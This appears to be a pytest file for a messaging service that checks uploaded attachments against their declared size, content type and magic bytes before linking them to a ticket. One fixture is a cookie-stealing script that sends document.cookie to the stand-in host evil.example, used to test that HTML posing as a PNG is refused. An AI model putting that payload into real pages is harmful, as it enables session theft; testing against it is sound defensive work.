"""An uploaded file is linked to a message or ticket only if it is what the customer declared.

The browser uploads straight to S3 with a presigned POST; before a message names the attachment,
the stored object is read back (one ranged GET) and must match the declaration: exact size, exact
content type, and the first bytes of the declared format. Otherwise: 422 naming ``attachment_ids``
and nothing is linked.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable
from typing import Any

import pytest
import requests

from tests.handlers.test_messenger_features import ALICE, JPEG, RETURNS, convert, start
from tests.support.events import Reply, customised

Call = Callable[[dict[str, Any]], Reply]
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00\x00\x00\rIHDR" + b"pixels" * 50
HTML = b"<!doctype html><script>fetch('https://evil.example/?c='+document.cookie)</script>"


def declare(messenger: Call, *, content_type: str, size: int, who: dict[str, Any] = ALICE) -> dict[str, Any]:
    reply = messenger(
        customised(
            "messenger_api/create_attachment",
            authorizer=who,
            body={"filename": "photo", "content_type": content_type, "size": size},
        )
    )
    assert reply.status == 201, reply.body
    return dict(reply.body)


def post_file(declared: dict[str, Any], content: bytes, **field_overrides: str) -> None:
    form = declared["upload"]
    stored = requests.post(
        form["url"], data={**form["fields"], **field_overrides}, files={"file": ("photo", content)}, timeout=10
    )
    assert stored.status_code in (200, 204), stored.text


def send(messenger: Call, conversation_id: str, attachment_id: str) -> Reply:
    return messenger(
        customised(
            "messenger_api/send_message",
            path=f"/messenger/conversations/{conversation_id}/messages",
            authorizer=ALICE,
            body={"body": "here it is", "attachment_ids": [attachment_id]},
        )
    )


def messages(messenger: Call, conversation_id: str) -> list[dict[str, Any]]:
    page = messenger(
        customised(
            "messenger_api/get_conversation", path=f"/messenger/conversations/{conversation_id}", authorizer=ALICE
        )
    )
    return list(page.body["messages"])


def test_the_presigned_form_pins_the_declared_type_and_caps_the_size(messenger: Call) -> None:
    declared = declare(messenger, content_type="image/png", size=len(PNG))

    fields = declared["upload"]["fields"]
    policy = json.loads(base64.b64decode(fields["policy"]))

    assert fields["Content-Type"] == "image/png"
    assert {"Content-Type": "image/png"} in policy["conditions"]
    assert ["content-length-range", 1, len(PNG)] in policy["conditions"]


def test_a_genuine_photo_of_the_declared_size_and_type_is_linked(messenger: Call) -> None:
    conversation_id = start(messenger, ALICE).body["id"]
    declared = declare(messenger, content_type="image/png", size=len(PNG))
    post_file(declared, PNG)

    sent = send(messenger, conversation_id, declared["attachment_id"])

    assert sent.status == 201, sent.body
    assert sent.body["attachments"][0]["id"] == declared["attachment_id"]


@pytest.mark.parametrize(
    ("declared_type", "declared_size", "content", "fields", "problem"),
    [
        ("image/jpeg", 100, JPEG, {}, f"the uploaded file is {len(JPEG)} bytes, but 100 were declared"),
        ("image/png", len(HTML), HTML, {}, "the uploaded file's content is not image/png"),
        ("application/pdf", len(PNG), PNG, {}, "the uploaded file's content is not application/pdf"),
        (
            "image/png",
            len(PNG),
            PNG,
            {"Content-Type": "text/html"},
            "the uploaded file was stored as 'text/html', but 'image/png' was declared",
        ),
    ],
    ids=["larger-than-declared", "html-as-png", "png-as-pdf", "stored-as-html"],
)
def test_an_upload_that_is_not_what_was_declared_is_refused_and_nothing_is_linked(
    messenger: Call,
    inbox: Call,
    declared_type: str,
    declared_size: int,
    content: bytes,
    fields: dict[str, str],
    problem: str,
) -> None:
    # Given a customer in a conversation that became a ticket
    conversation_id = start(messenger, ALICE).body["id"]
    ticket = convert(inbox, conversation_id)
    before = messages(messenger, conversation_id)
    # and an upload whose stored file differs from its declaration (S3's policy check is the first
    # line; this is the second, for whatever got past it)
    declared = declare(messenger, content_type=declared_type, size=declared_size)
    post_file(declared, content, **fields)

    # When they send it
    sent = send(messenger, conversation_id, declared["attachment_id"])

    # Then it is refused, naming the field and what is wrong
    assert sent.status == 422, sent.body
    [detail] = sent.body["details"]
    assert detail == {"field": "attachment_ids", "message": f"'{declared['attachment_id']}': {problem}"}
    # and nothing was linked: no new message, nothing on the ticket, nothing an agent can download
    assert messages(messenger, conversation_id) == before
    ticket_page = customised("inbox_api/get_ticket", path=f"/inbox/tickets/{ticket['id']}", authorizer=RETURNS)
    timeline = inbox(ticket_page).body["timeline"]
    assert not [part for part in timeline if part.get("attachments")]
    download = inbox(
        customised(
            "inbox_api/download_attachment", path=f"/inbox/attachments/{declared['attachment_id']}", authorizer=RETURNS
        )
    )
    assert download.status == 404
